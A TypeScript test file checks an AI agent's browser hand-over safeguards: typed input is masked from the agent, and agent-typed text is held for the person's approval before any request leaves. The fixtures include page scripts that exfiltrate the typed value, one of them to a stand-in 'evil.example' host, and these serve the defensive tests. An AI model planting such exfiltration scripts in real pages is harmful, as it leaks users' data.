/** @module-tag slow */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { browserRig, type BrowserRig } from './testing/browser-rig.ts'
import { needsChromium } from './testing/needs-chromium.ts'

needsChromium()

let rig: BrowserRig
beforeAll(async () => {
  rig = await browserRig()
  rig.rules('default', ['browser(domain:shop.example)'])
  rig.answer(() => ({ allow: true }))
}, 60_000)
afterAll(() => rig.close())

const LOGIN =
  '<form method=post action="/login"><input name=user aria-label=User><input name=word aria-label=Word><button>Sign in</button></form>'

async function take() {
  const session = rig.session()
  const holder = await session.alone(() => session.holding.take())
  if (holder === undefined) throw new Error('nobody could take it')
  return { session, holder }
}

test('while a person has the browser the agent waits, and what they typed is never told', async () => {
  rig.village.serve('shop.example/', LOGIN)
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  const { session, holder } = await take()
  let ended = false
  const reading = rig.act({ action: 'snapshot' }).finally(() => (ended = true))
  await session.page.click('[name=word]')
  await session.page.keyboard.type('typed-by-a-person')
  session.holding.typed('typed-by-a-person')
  session.holding.left()
  expect(ended).toBe(false)
  expect(session.guard.acting).toBeUndefined()
  await session.holding.giveBack(holder)
  const after = await reading
  expect(after.text).toContain('•••• masked')
  expect(after.text).not.toContain('typed-by')
  // It is also masked where the page shows it elsewhere, later.
  await session.page.evaluate(`document.body.append('typed-by-a-person')`)
  expect((await rig.act({ action: 'snapshot' })).text).not.toContain('typed-by')
  expect(text).toContain('Sign in')
})

test('a person submits what they typed themselves; what the agent typed is shown to them first', async () => {
  rig.village.serve('shop.example/', LOGIN)
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  const user = /User" \[(e\d+)\]/.exec(text)?.[1]
  const first = await take()
  await first.session.page.fill('[name=user]', 'me')
  await Promise.all([first.session.page.waitForResponse('**/login'), first.session.page.click('button')])
  expect(rig.village.at('shop.example').filter(({ method }) => method === 'POST')).toHaveLength(1)
  await first.session.holding.giveBack(first.holder)

  rig.village.arrived.length = 0
  const again = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  await rig.act({
    action: 'type',
    ref: /User" \[(e\d+)\]/.exec(again.text)?.[1] ?? user,
    text: 'the-agents-text',
  })
  const { session, holder } = await take()
  const asked = new Promise<void>(
    (come) => (session.holding.changed = () => session.holding.question && come()),
  )
  // The click ends with its request, which waits for the answer.
  const clicked = session.page.click('button')
  await asked
  expect(session.holding.question?.held).toMatchObject({ method: 'POST', url: 'http://shop.example/login' })
  expect(rig.village.at('shop.example').filter(({ method }) => method === 'POST')).toHaveLength(0)
  session.holding.question?.answer(false)
  await clicked
  await session.holding.giveBack(holder)
  await rig.act({ action: 'snapshot' })
  expect(rig.village.at('shop.example').filter(({ method }) => method === 'POST')).toHaveLength(0)
})

const AGENTS = `it's 5! "quoted"\nand & more`
const AREA = '<textarea name=note aria-label=Note></textarea><button>Send</button>'
const byScript = (body: string) =>
  `${AREA}<script>document.querySelector('button').onclick=()=>{const V=document.querySelector('textarea').value;${body}}</script>`

test.each([
  ['a form', `<form method=post action="/to">${AREA}</form>`],
  ['a form in parts', `<form method=post enctype="multipart/form-data" action="/to">${AREA}</form>`],
  ['a form as text', `<form method=post enctype="text/plain" action="/to">${AREA}</form>`],
  ['a form by GET', `<form action="/to">${AREA}</form>`],
  ['a form by GET into a frame', `<iframe name=f></iframe><form target=f action="/to">${AREA}</form>`],
  ['JSON', byScript(`fetch('/to',{method:'POST',body:JSON.stringify({V})})`)],
  ['base64', byScript(`fetch('/to',{method:'POST',body:btoa('x'+V)})`)],
  ['a file', byScript(`fetch('/to',{method:'POST',body:new Blob([V])})`)],
  [
    'the address of a request that sends nothing',
    byScript(`fetch('/to?'+new URLSearchParams({V}),{method:'POST'})`),
  ],
  ['the address of a page', byScript(`location.href='/to?'+encodeURIComponent(V)`)],
  ['two requests at once', byScript(`for (const to of ['/to','/to']) fetch(to,{method:'POST',body:V})`)],
])('what the agent typed is shown to the person before it leaves in %s', async (_how, html) => {
  rig.village.serve('shop.example/', html)
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  await rig.act({ action: 'type', ref: /Note" \[(e\d+)\]/.exec(text)?.[1], text: AGENTS })
  const { session, holder } = await take()
  rig.village.arrived.length = 0
  const clicked = session.page.click('button')
  await expect
    .poll(() => session.holding.question?.held.url, { timeout: 10_000 })
    .toContain('shop.example/to')
  const arrived = () => rig.village.arrived.filter(({ path }) => path.startsWith('/to'))
  expect(arrived()).toEqual([])
  await session.holding.giveBack(holder)
  await clicked
  await rig.act({ action: 'snapshot' })
  expect(arrived()).toEqual([])
})

test('what the agent typed goes to no new host while a person has the browser', async () => {
  rig.village.serve(
    'shop.example/',
    byScript(
      `new Image().src='http://evil.example/?'+encodeURIComponent(V);new Image().src='http://cdn.example/'`,
    ),
  )
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  await rig.act({ action: 'type', ref: /Note" \[(e\d+)\]/.exec(text)?.[1], text: AGENTS })
  const { session, holder } = await take()
  await session.page.click('button')
  await expect.poll(() => rig.village.at('cdn.example')).toHaveLength(1)
  expect(rig.village.at('evil.example')).toEqual([])
  await session.holding.giveBack(holder)
})

test('handing back while a request is held is a no to it', async () => {
  rig.village.serve('shop.example/', LOGIN)
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  rig.village.arrived.length = 0
  await rig.act({ action: 'type', ref: /User" \[(e\d+)\]/.exec(text)?.[1], text: 'the-agents-text' })
  const { session, holder } = await take()
  const asked = new Promise<void>(
    (come) => (session.holding.changed = () => session.holding.question && come()),
  )
  const clicked = session.page.click('button')
  await asked
  await session.holding.giveBack(holder)
  await clicked
  expect(session.holding.isHeld).toBe(false)
  await rig.act({ action: 'snapshot' })
  expect(rig.village.at('shop.example').filter(({ method }) => method === 'POST')).toHaveLength(0)
})

test('a yes to the request to take over hands back; without a taker it says so', async () => {
  rig.village.serve('shop.example/', LOGIN)
  await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  const why = 'The shop wants your password.'
  expect((await rig.act({ action: 'hand_over', why })).text).toContain('did not take over the browser')
  const session = rig.session()
  rig.rig.answer = async ({ call }) => {
    if (call.tool === 'browser_hand_over') await session.alone(() => session.holding.take())
    return { allow: true }
  }
  const handed = await rig.act({ action: 'hand_over', why })
  expect(handed.text).toContain('The person took over the browser and handed it back.')
  expect(session.holding.isHeld).toBe(false)
  expect(session.asks).toBeNull()
})

test('a browser that was closed says that its pages are gone', async () => {
  await rig.sessions.closeAll()
  rig.rules('auto', ['browser'])
  expect(await rig.act({ action: 'tabs' })).toMatchObject({ state: 'failed', code: 'no_page' })
})
